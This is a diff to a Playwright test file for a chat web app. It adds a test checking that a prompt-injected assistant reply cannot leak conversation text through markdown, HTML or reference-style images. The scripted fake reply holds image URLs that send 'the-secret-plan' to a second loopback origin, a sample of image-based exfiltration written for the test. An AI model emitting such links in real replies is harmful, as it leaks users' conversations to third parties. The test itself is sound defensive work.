@@ -1,5 +1,6 @@
+import { createServer } from "node:http";
 import type { Page } from "@playwright/test";
-import { BASE_PORT } from "../fixtures/env.ts";
+import { BASE_PORT, EXFIL_PORT } from "../fixtures/env.ts";
 import { fakeMarker, registerFakeReply } from "../fakes/scripted-replies.ts";
 import { openFakeProviderChat } from "../pages/chat-page.ts";
 import { expect, test } from "../fixtures/test.ts";
@@ -99,4 +100,42 @@ test("script, handlers, javascript: links, SVG, KaTeX commands and remote images
   expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
   expect(seen.dialogs).toEqual([]);
   expect([...seen.hosts]).toEqual([`acme.localhost:${BASE_PORT}`]);
+});
+
+test("a prompt-injected reply cannot send conversation text elsewhere through images", async ({
+  page,
+  context,
+}) => {
+  // A second origin on loopback that counts every request it gets.
+  const requests: string[] = [];
+  const counter = createServer((request, response) => {
+    requests.push(request.url ?? "");
+    response.writeHead(200, { "content-type": "image/png" });
+    response.end();
+  });
+  await new Promise<void>((resolve) => counter.listen(EXFIL_PORT, "127.0.0.1", resolve));
+  try {
+    const leak = `http://127.0.0.1:${EXFIL_PORT}/pixel.png?data=the-secret-plan`;
+    await registerFakeReply("exfiltrate", {
+      text: `Here is a chart.\n\n![chart](${leak})\n\n<img src="${leak}&via=html">\n\n![ref][r]\n\n[r]: ${leak}&via=ref`,
+    });
+    const chat = await openFakeProviderChat(page);
+    const reply = await chat.sendAndSettle(`The secret plan. ${fakeMarker("exfiltrate")}`);
+    await expect(reply).toHaveAttribute("data-status", "complete");
+    await expect(reply.getByTestId("markdown.remote-image").first()).toBeVisible();
+    await page.reload();
+    await expect(chat.assistantReplies().last()).toBeVisible();
+    // Rendered twice (live and after a reload): the other origin heard nothing.
+    expect(requests).toEqual([]);
+    // Only the user's own click opens it.
+    const opened = context.waitForEvent("page");
+    await chat.assistantReplies().last().getByTestId("markdown.remote-image").first().click();
+    await (await opened).waitForLoadState();
+    // (The new tab also asks that origin for its favicon.)
+    expect(requests.filter((url) => url.startsWith("/pixel.png"))).toEqual([
+      "/pixel.png?data=the-secret-plan",
+    ]);
+  } finally {
+    await new Promise<void>((resolve) => counter.close(() => resolve()));
+  }
 });
